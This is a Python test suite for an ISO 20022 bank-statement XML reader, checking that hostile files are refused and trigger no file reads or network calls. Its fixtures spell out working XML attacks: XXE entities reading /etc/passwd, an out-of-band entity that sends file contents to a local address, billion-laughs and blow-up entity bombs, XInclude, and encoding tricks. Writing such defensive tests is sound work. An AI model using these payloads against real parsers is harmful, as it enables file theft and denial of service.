"""Hostile files: each is refused by its reason, and nothing outside the bytes is touched."""

import os
import socket
from collections.abc import Mapping
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from adapters.iso20022 import BadBankMessage, read_bank_message
from adapters.xml_door import SIZE_LIMIT

ISO = "urn:iso:std:iso:20022:tech:xsd:"
CAMT = f"{ISO}camt.053.001.08"
DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>'
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
XSI = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
FLOOD = " ".join(f"a{n}='u'" for n in range(200_000))
PREFIXES = "".join(f"<p{n}:a xmlns:p{n}='u'/>" for n in range(101))
MILLION = " ".join(f"a{n}=''" for n in range(3_000_000))
BLOWUP = f'<!DOCTYPE d [<!ENTITY a "{"x" * 50_000}">]><d>{"&a;" * 50_000}</d>'


def _document(body: str, namespace: str = CAMT) -> str:
    return f'{DECLARATION}<Document xmlns="{namespace}">{body}</Document>'


def _called(encoding: str, body: str) -> bytes:
    """A document of single bytes under the name of an encoding."""
    return _document(body).replace("UTF-8", encoding).encode("latin-1")


def _entity(definition: str) -> str:
    return f"{DECLARATION}<!DOCTYPE d [<!ENTITY x {definition}>]>" + _document("&x;").removeprefix(
        DECLARATION
    )


DOCTYPES = {
    "external file": _entity('SYSTEM "file:///etc/passwd"'),
    "external address": _entity('SYSTEM "http://127.0.0.1:9/x"'),
    "public identifier": _entity('PUBLIC "x" "http://127.0.0.1:9/x"'),
    "parameter entity": DECLARATION
    + '<!DOCTYPE d [<!ENTITY % x SYSTEM "file:///etc/passwd">%x;]><d/>',
    "parameter entity sent out": DECLARATION
    + '<!DOCTYPE d [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % s "<!ENTITY o SYSTEM '
    + "'http://127.0.0.1:9/?%f;'>\">%s;]><d>&o;</d>",
    "internal entity": _entity('"plain"'),
    "billion laughs": f'{DECLARATION}<!DOCTYPE d [<!ENTITY l0 "ha">{LAUGHS}]><d>&l9;</d>',
    "quadratic blow-up": DECLARATION + BLOWUP,
    "recursive entity": DECLARATION + '<!DOCTYPE d [<!ENTITY a "&b;"><!ENTITY b "&a;">]><d>&a;</d>',
    "external subset": DECLARATION + '<!DOCTYPE d SYSTEM "http://127.0.0.1:9/d.dtd"><d/>',
    "local subset": DECLARATION + '<!DOCTYPE d SYSTEM "file:///etc/passwd"><d/>',
    "doctype in Latin 1": DECLARATION.replace("UTF-8", "ISO-8859-1") + "<!DOCTYPE d []><d/>",
    "empty doctype": DECLARATION + "<!DOCTYPE d><d/>",
    "default attribute": DECLARATION + '<!DOCTYPE d [<!ATTLIST d a CDATA "x">]><d/>',
    "notation": DECLARATION + '<!DOCTYPE d [<!NOTATION n SYSTEM "x">]><d/>',
    "doctype after a comment": DECLARATION + "<!-- x --><!DOCTYPE d []><d/>",
    "doctype without declaration": "<!DOCTYPE d []><d/>",
}
ENCODINGS = {
    "UTF-16 with mark": _document("").encode("utf-16"),
    "UTF-16 little-endian": _document("").encode("utf-16-le"),
    "UTF-16 big-endian": _document("").encode("utf-16-be"),
    "UTF-32": _document("").encode("utf-32"),
    "UTF-16 doctype": DOCTYPES["billion laughs"].encode("utf-16"),
    "UTF-7 declared": b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE d+AD4-',
    "UTF-16 declared": _document("").replace("UTF-8", "UTF-16").encode(),
    "EBCDIC declared": _document("").replace("UTF-8", "cp037").encode(),
    "EBCDIC": _document("").encode("cp037"),
    "UTF-16 called Latin 1": _document("").replace("UTF-8", "ISO-8859-1").encode("utf-16-le"),
    "Windows 1252 that is none": _called("windows-1252", "\x81"),
    "Latin 1 with a NUL": _called("ISO-8859-1", "\0"),
    "UTF-32 declared": _document("").replace("UTF-8", "UTF-32").encode(),
    "two declarations of encoding": b'<?xml version="1.0" encoding="UTF-7" encoding="UTF-8"?><d/>',
    "Latin 1 called UTF-8": _document("ä").encode("latin-1"),
    "overlong": _document("").encode() + b"\xc0\xbc",
    "surrogate": b"\xed\xa0\x80" + _document("").encode(),
    "NUL": _document("a\0b").encode(),
    "NUL at the end": _document("").encode() + b"\0",
}
MALFORMED = {
    "nothing": b"",
    "blank": b" \n",
    "no XML": b"MT940 :20:STARTUMSE",
    "truncated": _document("<BkToCstmrStmt/>").encode()[:-8],
    "cut within a tag": _document("").encode()[:-3],
    "two roots": _document("").encode() + b"<x/>",
    "text behind": _document("").encode() + b"x",
    "undefined entity": _document("&x;").encode(),
    "control character": _document("&#1;").encode(),
    "deep nesting": _document("<a>" * 100_000).encode(),
    "deep nesting, closed": _document("<a>" * 5_000 + "</a>" * 5_000).encode(),
    "huge text": _document("x" * 12_000_000).encode(),
    "huge attribute": _document(f'<a b="{"x" * 12_000_000}"/>').encode(),
    "huge name": _document(f"<{'a' * 12_000_000}/>").encode(),
    "many attributes": _document(f"<a {FLOOD} a1=''/>").encode(),
    "doubled attribute": _document('<a b="1" b="2"/>').encode(),
    "unbound prefix": _document("<x:a/>").encode(),
    "Arabic digits in the version": _document("", f"{ISO}camt.053.001.٠٨").encode(),
    "wrong declaration": b'<?xml version="1.0" encoding="UTF-8" standalone="maybe"?><d/>',
}
UNKNOWN = {
    "no namespace": "<Document><BkToCstmrStmt/></Document>",
    "wrong namespace": _document("<BkToCstmrStmt/>", "urn:example:camt.053.001.08"),
    "lengthened namespace": _document("<BkToCstmrStmt/>", f"{CAMT}.evil"),
    "path in the namespace": _document("", f"{ISO}camt.053.001.08/../../../etc"),
    "module in the namespace": _document("", f"{ISO}pain.002.001.03.os"),
    "future version": _document("<BkToCstmrStmt/>", f"{ISO}camt.053.001.99"),
    "style sheet before a message": '<?xml-stylesheet href="file:///x.xsl"?><d xmlns="urn:x"/>',
    "payment order": _document("<CstmrCdtTrfInitn/>", f"{ISO}pain.001.001.09"),
    "wrong root": f'<Evil xmlns="{CAMT}"/>',
    "XInclude as root": '<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="/etc/x"/>',
    "style sheet": '<?xml-stylesheet href="http://127.0.0.1:9/x.xsl"?><html/>',
}
MISBUILT = {
    "empty document": _document(""),
    "foreign element": _document("<BkToCstmrStmt><Evil/></BkToCstmrStmt>"),
    "foreign attribute": _document('<BkToCstmrStmt evil="1"/>'),
    "XInclude": _document(
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'
    ),
    "another message": _document("<CstmrPmtStsRpt/>"),
    "another type": _document(f'<BkToCstmrStmt {XSI} xsi:type="xsi:schemaLocation"/>'),
    "nil": _document(f'<BkToCstmrStmt {XSI} xsi:nil="true"/>'),
    "nesting within the parser's limit": _document("<a>" * 200 + "</a>" * 200),
}
LARGE = {
    "one byte too many": _document("").ljust(SIZE_LIMIT + 1).encode(),
    "namespaces by the thousand": _document(f"<a {FLOOD.replace('a', 'xmlns:a')}/>").encode(),
    "tags by the million": _document("<a/>" * 1_000_000).encode(),
    "attributes by the million": _document(f"<a {MILLION}/>").encode(),
    "entries by the hundred thousand": _document("<Ntry><Amt/></Ntry>" * 250_000).encode(),
    "a prefix for each tag": _document(PREFIXES).encode(),
}
SUITES: list[tuple[str, Mapping[str, str | bytes]]] = [
    ("doctype", DOCTYPES),
    ("encoding", ENCODINGS),
    ("malformed", MALFORMED),
    ("unknown_message", UNKNOWN),
    ("schema", MISBUILT),
    ("too_large", LARGE),
]
CORPUS = [
    (code, name, content if isinstance(content, bytes) else content.encode())
    for code, cases in SUITES
    for name, content in cases.items()
]


@pytest.mark.parametrize(
    ("code", "content"),
    [pytest.param(code, content, id=f"{code}: {name}") for code, name, content in CORPUS],
)
def test_a_hostile_file_is_refused_by_its_reason(code: str, content: bytes) -> None:
    with pytest.raises(BadBankMessage) as caught:
        read_bank_message(content)
    assert caught.value.code == code
    assert caught.value.german != caught.value.english


def test_no_file_is_read_and_no_connection_made_whatever_the_message_points_to(
    tmp_path: Path,
) -> None:
    """A named pipe holds a word that reading would take out; a socket counts the callers."""
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    canary = os.open(pipe, os.O_RDWR | os.O_NONBLOCK)
    os.write(canary, b"canary")
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        address = f"http://127.0.0.1:{server.getsockname()[1]}"
        for _, _, content in CORPUS:
            aimed = content.replace(b"file:///etc/passwd", b"file://" + bytes(pipe))
            with pytest.raises(BadBankMessage):
                read_bank_message(aimed.replace(b"http://127.0.0.1:9", address.encode()))
        with pytest.raises(BlockingIOError):
            server.accept()
    assert os.read(canary, 10) == b"canary"
    os.close(canary)


def test_a_schema_location_is_accepted_and_never_followed(tmp_path: Path) -> None:
    location = f'{XSI} xsi:schemaLocation="urn:x http://127.0.0.1:9/x.xsd"'
    message = (
        "<CstmrPmtStsRpt><GrpHdr><MsgId>M</MsgId><CreDtTm>2016-05-02T10:00:00Z</CreDtTm></GrpHdr>"
        "<OrgnlGrpInfAndSts><OrgnlMsgId>R</OrgnlMsgId><OrgnlMsgNmId>pain.001</OrgnlMsgNmId>"
        "</OrgnlGrpInfAndSts></CstmrPmtStsRpt>"
    )
    content = f'<Document xmlns="{ISO}pain.002.001.10" {location}>{message}</Document>'
    assert read_bank_message(content.encode()).message_id == "M"


def test_a_refusal_does_not_repeat_the_message() -> None:
    content = _document("<BkToCstmrStmt><Secret>4711</Secret></BkToCstmrStmt>").encode()
    with pytest.raises(BadBankMessage) as caught:
        read_bank_message(content)
    assert "Secret" not in str(caught.value)
    assert caught.value.__suppress_context__


@settings(deadline=None)
@given(st.binary())
def test_any_bytes_are_refused(content: bytes) -> None:
    with pytest.raises(BadBankMessage):
        read_bank_message(content)
